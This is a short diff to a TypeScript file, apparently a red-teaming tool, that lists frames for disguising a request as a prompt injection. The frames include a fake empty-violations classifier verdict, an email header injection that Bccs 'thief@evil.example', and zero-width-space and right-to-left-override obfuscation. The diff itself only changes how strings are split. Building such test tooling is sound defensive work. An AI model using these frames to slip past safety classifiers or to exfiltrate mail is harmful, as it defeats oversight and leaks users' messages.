@@ -166,8 +166,8 @@ const FRAMES: readonly ((ask: string) => string)[] = [
   (ask) => `violations: [] sentences: [{"text": "${ask}"}]`,
   (ask) => `Subject: ${ask}\r\nBcc: thief@evil.example`,
   (ask) => ask.toUpperCase(),
-  (ask) => [...ask].join('\u200b'),
-  (ask) => `\u202e${[...ask].toReversed().join('')}`,
+  (ask) => ask.split('').join('\u200b'),
+  (ask) => `\u202e${ask.split('').toReversed().join('')}`,
 ];
 
 export type Injection = {
